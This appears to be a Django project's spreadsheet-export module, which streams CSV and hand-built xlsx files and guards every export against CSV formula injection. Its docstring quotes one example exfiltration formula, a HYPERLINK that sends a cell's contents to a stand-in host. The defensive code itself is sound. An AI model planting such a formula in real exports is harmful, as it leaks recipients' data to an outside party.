"""The one writer of every spreadsheet the app sends — CSV and xlsx, rows built by hand and
django-import-export datasets alike (issue #15).

A text cell starting with = + - @ (or a tab or a carriage return) is a formula to Excel and LibreOffice:
a part named `=HYPERLINK("http://x/?d="&A2,"点击")`, imported by one keeper, would have run in the
catalogue export of every branch (CSV injection). Here it stays text:

- CSV: such a cell goes out with a leading `'`, which spreadsheets show as text. `restore` takes the
  `'` off again when the file comes back (an exported catalogue imports as it was: `+5V` stays `+5V`).
- xlsx: every text cell is an inline string, never a formula element, and one that starts like a formula
  carries the quote-prefix style, so it stays text even when somebody edits the cell in Excel.

The xlsx goes straight into the zip as SpreadsheetML text, and the zip out to the client as it is
written (no temporary file, nothing held but the current chunk). openpyxl's write-only mode builds a
cell object per value and spent about 15 µs on each: 21-30 s for the monthly report of 100,000 surveys
(1.4 million cells, issue #8); writing the cell text directly costs about 1 µs a cell. The workbook is
the plain subset of the format: inline strings, numbers, booleans, a bold header row and the width of
the first column; openpyxl reads it back in the tests.

This module imports no app of the project: every app's exports use it.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from xml.sax.saxutils import escape, quoteattr

import tablib
from django.http import Http404, StreamingHttpResponse
from import_export.formats import base_formats
from openpyxl.utils import get_column_letter

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutralise(cell):
    """A CSV cell as it is written: text that starts like a formula gets a leading `'`."""
    return "'" + cell if looks_like_formula(cell) else cell


def restore(cell):
    """A cell of an uploaded file as it was before `neutralise`."""
    if isinstance(cell, str) and cell.startswith("'") and looks_like_formula(cell[1:]):
        return cell[1:]
    return cell


# --- CSV ---------------------------------------------------------------------------------------------


class _Echo:
    """csv.writer writes into this and gets the line back, so each line can be streamed."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Sequence]) -> Iterator[str]:
    writer = csv.writer(_Echo())
    yield "\ufeff"  # a BOM, so that Excel opens the Chinese text as UTF-8
    for row in rows:
        yield writer.writerow([neutralise(cell) for cell in row])


def csv_response(rows: Iterable[Sequence], filename: str) -> StreamingHttpResponse:
    return _attachment(StreamingHttpResponse(csv_lines(rows), content_type=CSV_CONTENT_TYPE), filename)


# --- xlsx --------------------------------------------------------------------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
HEADER = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
FIRST_COLUMN_WIDTH = 24
ROWS_PER_CHUNK = 500
# Characters XML 1.0 cannot carry (openpyxl refuses them); dropped from the text.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
# Indexes of the cell formats in STYLES: + 1 bold (the header), + 2 quote prefix (text like a formula).
_BOLD, _QUOTED = 1, 2

STYLES = (
    f'{HEADER}<styleSheet xmlns="{MAIN}">'
    '<fonts count="2"><font><sz val="11"/><name val="Calibri"/></font>'
    '<font><b/><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="4"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/>'
    '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0" quotePrefix="1"/>'
    '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1" quotePrefix="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    "</styleSheet>"
)


class _Pipe(io.RawIOBase):
    """What the zip writes into: collects the bytes until the response takes them. Not seekable, so
    zipfile writes each member's sizes after its data (a data descriptor) and never seeks back."""

    def __init__(self) -> None:
        self._chunks: list[bytes] = []

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:
        self._chunks.append(bytes(data))
        return len(data)

    def take(self) -> Iterator[bytes]:
        chunks, self._chunks = self._chunks, []
        return iter(chunks)


def _cell(reference: str, value, bold: int) -> str:
    if value is None or value == "":
        return ""
    if type(value) is not str:  # most cells are text: test that first
        style = f' s="{bold}"' if bold else ""
        if isinstance(value, bool):
            return f'<c r="{reference}" t="b"{style}><v>{int(value)}</v></c>'
        if isinstance(value, int | float | Decimal):
            return f'<c r="{reference}"{style}><v>{value}</v></c>'
        value = str(value)
    value = _ILLEGAL.sub("", value)
    index = bold + (_QUOTED if value.startswith(FORMULA_STARTS) else 0)
    style = f' s="{index}"' if index else ""
    return f'<c r="{reference}" t="inlineStr"{style}><is><t xml:space="preserve">{escape(value)}</t></is></c>'


def _sheet_rows(rows: Iterable[Sequence]) -> Iterator[str]:
    """The <row> elements; the first row (the header) in bold."""
    letters: list[str] = []
    for number, row in enumerate(rows, start=1):
        while len(letters) < len(row):
            letters.append(get_column_letter(len(letters) + 1))
        bold = _BOLD if number == 1 else 0
        cells = "".join(
            _cell(f"{letter}{number}", value, bold) for letter, value in zip(letters, row, strict=False)
        )
        yield f'<row r="{number}">{cells}</row>'


def stream_xlsx(sheets: Iterable[tuple[str, Iterable[Sequence]]]) -> Iterator[bytes]:
    """The bytes of a workbook with these (title, rows) sheets, produced as the rows are read."""
    pipe = _Pipe()
    titles = []
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as book:
        for index, (title, rows) in enumerate(sheets, start=1):
            titles.append(title[:31])
            with book.open(f"xl/worksheets/sheet{index}.xml", "w") as part:
                part.write(
                    f'{HEADER}<worksheet xmlns="{MAIN}"><cols><col min="1" max="1" '
                    f'width="{FIRST_COLUMN_WIDTH}" customWidth="1"/></cols><sheetData>'.encode()
                )
                batch: list[str] = []
                for line in _sheet_rows(rows):
                    batch.append(line)
                    if len(batch) == ROWS_PER_CHUNK:
                        part.write("".join(batch).encode())
                        batch.clear()
                        yield from pipe.take()
                part.write(("".join(batch) + "</sheetData></worksheet>").encode())
            yield from pipe.take()
        book.writestr("[Content_Types].xml", _content_types(len(titles)))
        book.writestr(
            "_rels/.rels",
            f'{HEADER}<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
            f'Type="{RELATIONSHIPS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        book.writestr("xl/workbook.xml", _workbook(titles))
        book.writestr("xl/_rels/workbook.xml.rels", _workbook_relationships(len(titles)))
        book.writestr("xl/styles.xml", STYLES)
    yield from pipe.take()


def _content_types(sheets: int) -> str:
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{index}.xml" ContentType="{OFFICE_TYPE}.worksheet+xml"/>'
        for index in range(1, sheets + 1)
    )
    return (
        f'{HEADER}<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{OFFICE_TYPE}.sheet.main+xml"/>'
        f'<Override PartName="/xl/styles.xml" ContentType="{OFFICE_TYPE}.styles+xml"/>'
        f"{overrides}</Types>"
    )


def _workbook(titles: list[str]) -> str:
    sheets = "".join(
        f'<sheet name={quoteattr(title)} sheetId="{index}" r:id="rId{index}"/>'
        for index, title in enumerate(titles, start=1)
    )
    return f'{HEADER}<workbook xmlns="{MAIN}" xmlns:r="{RELATIONSHIPS}"><sheets>{sheets}</sheets></workbook>'


def _workbook_relationships(sheets: int) -> str:
    links = "".join(
        f'<Relationship Id="rId{index}" Type="{RELATIONSHIPS}/worksheet" Target="worksheets/sheet{index}.xml"/>'
        for index in range(1, sheets + 1)
    )
    styles = f'<Relationship Id="rId{sheets + 1}" Type="{RELATIONSHIPS}/styles" Target="styles.xml"/>'
    return f'{HEADER}<Relationships xmlns="{PACKAGE}/relationships">{links}{styles}</Relationships>'


def xlsx_response(sheets: Iterable[tuple[str, Iterable[Sequence]]], filename: str) -> StreamingHttpResponse:
    """sheets: (title, rows), the first row of each is its header (bold). Streamed as it is written."""
    return _attachment(StreamingHttpResponse(stream_xlsx(sheets), content_type=XLSX_CONTENT_TYPE), filename)


def spreadsheet_response(
    fmt: str, rows: Iterable[Sequence], *, title: str, filename: str
) -> StreamingHttpResponse:
    """One sheet of rows (the first is the header) as `filename.fmt`, csv or xlsx; another format is a 404."""
    if fmt == "csv":
        return csv_response(rows, f"{filename}.csv")
    if fmt == "xlsx":
        return xlsx_response([(title, rows)], f"{filename}.xlsx")
    raise Http404("Unknown format")


def _attachment(response: StreamingHttpResponse, filename: str) -> StreamingHttpResponse:
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# --- django-import-export ----------------------------------------------------------------------------


def dataset_rows(dataset: tablib.Dataset) -> Iterator[Sequence]:
    """The header, then the rows of a dataset (what a resource's `export()` gives)."""
    yield dataset.headers or []
    yield from dataset


def _restored(dataset: tablib.Dataset) -> tablib.Dataset:
    return tablib.Dataset(
        *([restore(cell) for cell in row] for row in dataset), headers=dataset.headers, title=dataset.title
    )


class CSV(base_formats.CSV):
    """django-import-export's CSV through this module's writer (the admin's export and the screens')."""

    def export_data(self, dataset: tablib.Dataset, **kwargs) -> str:
        return "".join(csv_lines(dataset_rows(dataset)))

    def create_dataset(self, in_stream, **kwargs) -> tablib.Dataset:
        return _restored(super().create_dataset(in_stream, **kwargs))


class XLSX(base_formats.XLSX):
    """django-import-export's xlsx through this module's writer instead of openpyxl's formula cells."""

    def export_data(self, dataset: tablib.Dataset, **kwargs) -> bytes:
        return b"".join(stream_xlsx([(dataset.title or "Sheet1", dataset_rows(dataset))]))

    def create_dataset(self, in_stream) -> tablib.Dataset:
        return _restored(super().create_dataset(in_stream))
